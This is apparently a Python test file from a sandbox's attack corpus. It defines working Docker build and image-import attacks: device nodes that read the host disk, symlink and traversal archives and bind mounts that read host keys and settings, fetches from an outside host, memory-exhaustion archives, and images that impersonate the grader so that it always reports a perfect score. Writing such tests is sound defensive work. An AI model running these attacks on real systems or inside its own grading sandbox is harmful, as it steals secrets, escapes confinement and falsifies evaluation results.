"""Building: images that bring what a container of the submission must not have, by each way that images are made."""

from __future__ import annotations

from tests.attack_corpus.attack import ANYHOW, Attack
from tests.attack_corpus.requests_to_docker import COMMON

_BUILD = """def build(dockerfile, *options, builder="1"):
    open("Dockerfile", "w").write(dockerfile)
    command = ["docker", "build", "--progress=plain", "--tag", "built", *options, "."]
    if builder == "0":
        command.remove("--progress=plain")
    done = subprocess.run(command, env={**os.environ, "DOCKER_BUILDKIT": builder}, capture_output=True, text=True)
    print(done.stdout[-200:], done.stderr[-300:])
    return done.returncode == 0
def contents(*names):
    return output(create(Image="built", Entrypoint=[], Cmd=["cat", *names], User="0"))
SECRETS = ("/run/seed/server-key.pem", "/run/seed/settings", "/etc/docker/daemon.json")
SIGNS = (b"PRIVATE KEY", b"CONFINED=", b"tlsverify")
def shows(listing):
    return any(sign in listing for sign in SIGNS)
def load(data, path):
    return ask("POST", path, data, "application/x-tar")[0] == 200
"""

_CODE = {
    "device-in-an-image": (
        "Imports an image with the machine's disk as a device, and reads it.",
        """disk = {"type": tarfile.BLKTYPE, "devmajor": 98, "devminor": 0}
data = archive(("disk", disk, b""), ("memory", {"type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 1}, b""))
load(data, "/images/create?fromSrc=-&repo=devices&tag=1")
build("FROM drydock/busybox:1.37\\nCOPY --from=devices:1 / /d/")
read = "ls -l /d; mknod /n b 98 0; for d in /d/disk /d/memory /n; do head -c 9999 $d | wc -c; done"
report(b"9999" in output(create(Image="built", Cmd=["sh", "-c", read])))
open("layer.tar", "wb").write(data)
build("FROM drydock/busybox:1.37\\nADD layer.tar /d/")
report(b"9999" in output(create(Image="built", Cmd=["sh", "-c", read])))""",
    ),
    "load-with-links": (
        "Loads an image whose manifest names files of the machine by links.",
        """links = [(name, {"type": tarfile.SYMTYPE, "linkname": target}, b"") for name, target in
         (("config.json", "/etc/docker/daemon.json"), ("layer", "/dev/ubdb"), ("a/layer", "../../../../dev/ubdb"))]
manifest = json.dumps([{"Config": "config.json", "RepoTags": ["linked:1"], "Layers": ["layer", "a/layer"]}])
load(archive(*links, ("manifest.json", {}, manifest.encode())), "/images/load")
for names in ("../../../run/seed/settings", "/run/seed/settings"):
    manifest = json.dumps([{"Config": names, "RepoTags": ["linked:1"], "Layers": [names]}])
    load(archive(("manifest.json", {}, manifest.encode())), "/images/load")
report(attempt(client.images.get, "linked:1"))""",
    ),
    "archive-that-climbs": (
        "Imports and uploads archives whose names and links lead out of the container.",
        """climbing = [("../../../../../../run/climbed", {}, b"x"), ("root/run/climbed", {}, b"x")]
climbing.insert(1, ("root", {"type": tarfile.SYMTYPE, "linkname": "/"}, b""))
for number, name in enumerate(SECRETS):
    climbing.append(("hard%d" % number, {"type": tarfile.LNKTYPE, "linkname": "../" * 9 + name[1:]}, b""))
made = client.containers.create(busybox, "cat /hard0 /hard1 /hard2 /root/run/seed/settings")
for data in (archive(*climbing[:3]), archive(*climbing[3:]), archive(*climbing)):
    load(data, "/images/create?fromSrc=-&repo=built&tag=latest")
    for path in ("/", "/root", "/../../../.."):
        ask("PUT", "/containers/%s/archive?path=%s" % (made.id, path), data, "application/x-tar")
report(shows(output(made)))
print(ask("GET", "/containers/%s/archive?path=/root/run/seed" % made.id)[0])
for name in SECRETS:
    status, answer = ask("GET", "/containers/%s/archive?path=/root%s" % (made.id, name))
    report(status == 200 and shows(answer))""",
    ),
    "context-with-links": (
        "Builds from links that lead out of the context, and from a Dockerfile outside of it.",
        """for number, name in enumerate(SECRETS):
    os.symlink(name, "link%d" % number)
os.symlink("/", "root")
for builder in "01":
    for step in ("COPY link* /d/", "COPY root/run/seed/settings /d/", "ADD ../../../../run/seed /d/", "COPY . /d/"):
        build("FROM drydock/busybox:1.37\\n" + step, builder=builder)
        report(shows(contents("/d/link0", "/d/link1", "/d/link2", "/d/settings", "/d/server-key.pem")))
for name in ("../../../../../run/seed/settings", "root/run/seed/settings", "/run/seed/settings"):
    data = archive(("root", {"type": tarfile.SYMTYPE, "linkname": "/"}, b""))
    answer = ask("POST", "/build?dockerfile=" + name, data, "application/x-tar")[1]
    report(b"CONFINED" in answer or b"unknown instruction" in answer)""",
    ),
    "mounts-of-a-build": (
        "Mounts folders, secrets and agents of the machine into a step of a build.",
        """look = " ls /h/run/seed /h > /seen; cat /h/run/seed/settings >> /seen; true"
for mount in ("type=bind,source=/,target=/h", "type=bind,from=root,source=/,target=/h", "type=ssh,required=true",
              "type=secret,id=s,required=true", "type=cache,source=/../../..,target=/h",
              "type=bind,source=../../../../..,target=/h"):
    build("FROM drydock/busybox:1.37\\nRUN --mount=" + mount + look)
    listing = contents("/seen")
    report(shows(listing) or b"vmlinuz" in listing)""",
    ),
    "from-the-network": (
        "Has the daemon fetch images, files and contexts from this computer and beyond.",
        """host = "%s:%d" % ("10.0.2.2", {port})
build("FROM drydock/busybox:1.37\\nADD http://%s/x /x" % host)
build("FROM %s/x:1" % host)
build("# syntax=%s/frontend:1\\nFROM drydock/busybox:1.37" % host)
for path in ("/build?remote=http://%s/x" % host, "/images/create?fromImage=%s/x&tag=1" % host,
             "/images/create?fromSrc=http://%s/x" % host):
    report(b"attacker" in ask("POST", path)[1])
ask("GET", "/distribution/%s/x/json" % host)""",
    ),
    "images-of-the-grader": (
        "Gives the names of the grader's images to its own, whose programs agree to everything.",
        """build('FROM drydock/python:3.13\\nENTRYPOINT ["sh", "-c", "echo 200 10/10; exit 0"]\\nONBUILD RUN true')
for name in ("drydock/busybox:1.37", "drydock/kernel:1", "drydock/debian:13"):
    attempt(client.images.remove, name, force=True)
    print(name, attempt(client.images.get("built").tag, name))
print([one.tags for one in client.images.list()])""",
    ),
    "limits-of-a-build": (
        "Names the daemon's control group for the steps of a build, which has none of the limits of containers.",
        """for group in ("/engine", "/docker/../engine/x.slice:"):
    step = "FROM drydock/busybox:1.37\\nRUN test ! -e /sys/fs/cgroup/pids.max"
    report(build(step, "--no-cache", "--cgroup-parent", group))""",
    ),
    "giant-manifest": (
        "Loads an archive whose manifest needs more memory than the daemon has.",
        """def parts(size=700 << 20):
    entry = tarfile.TarInfo("manifest.json")
    entry.size = size
    yield entry.tobuf()
    for _ in range(size >> 20):
        yield b"[" * (1 << 20)
    yield bytes(1024)
try:
    print([*client.api._post(client.api._url("/images/load"), data=parts(), stream=True).iter_content()])
except Exception as error:
    print(str(error)[:300])""",
    ),
    "endless-archives": (
        "Uploads to a container, a build and an import what has no end.",
        """def endless():
    entry = tarfile.TarInfo("x")
    entry.size = 1 << 40
    yield entry.tobuf()
    while True:
        yield bytes(1 << 20)
made = client.containers.create(busybox)
for method, path in (("POST", "/images/create?fromSrc=-"), ("POST", "/build"),
                     ("PUT", "/containers/%s/archive?path=/" % made.id)):
    try:
        print(client.api.request(method, client.api._url(path), data=endless(), timeout=10).text[-300:])
    except Exception as error:
        print(str(error)[:300])""",
    ),
    "changes-of-a-commit": (
        "Writes further instructions beside the instructions that a commit and an import may have.",
        """made = client.containers.create(busybox)
for change in ("ONBUILD RUN id", "RUN id", "ENV a=b%0ALABEL%20io.drydock.owner=autograder", "COPY / /h", "USER 0%00",
               "LABEL\\tio.drydock.owner=autograder", "FROM drydock/kernel:1", "ADD%20http://10.0.2.2/%20/"):
    written = change.replace(" ", "%20").replace("\\t", "%09")
    status, _ = ask("POST", "/commit?container=%s&repo=built&changes=%s" % (made.id, written))
    if status == 201:
        report(create(Image="built").labels["io.drydock.owner"] == "autograder" or not change.startswith("LABEL"))""",
    ),
    "label-and-device": (
        "Combines two: an imported image has the grader's label and the machine's disk.",
        """data = archive(("disk", {"type": tarfile.BLKTYPE, "devmajor": 98, "devminor": 0}, b""))
load(data, "/images/create?fromSrc=-&repo=devices&tag=1&changes=LABEL%20io.drydock.owner=autograder")
build("FROM drydock/busybox:1.37\\nCOPY --from=devices:1 / /d/\\nLABEL io.drydock.owner=autograder")
made = create(Image="built", Cmd=["sh", "-c", "head -c 9999 /d/disk | wc -c"])
report(b"9999" in output(made) or made.labels["io.drydock.owner"] == "autograder")""",
    ),
}

_LAYERS = {
    **dict.fromkeys(("giant-manifest", "endless-archives"), "the machine's limits"),
    "images-of-the-grader": "ids of images",
    "from-the-network": "bubblewrap",
}
ATTACKS = {
    name: Attack(
        tries, COMMON + _BUILD + code, _LAYERS.get(name, "proxy"), states=ANYHOW,
        combined=tries.startswith("Combines"),
    )
    for name, (tries, code) in _CODE.items()
}  # fmt: skip
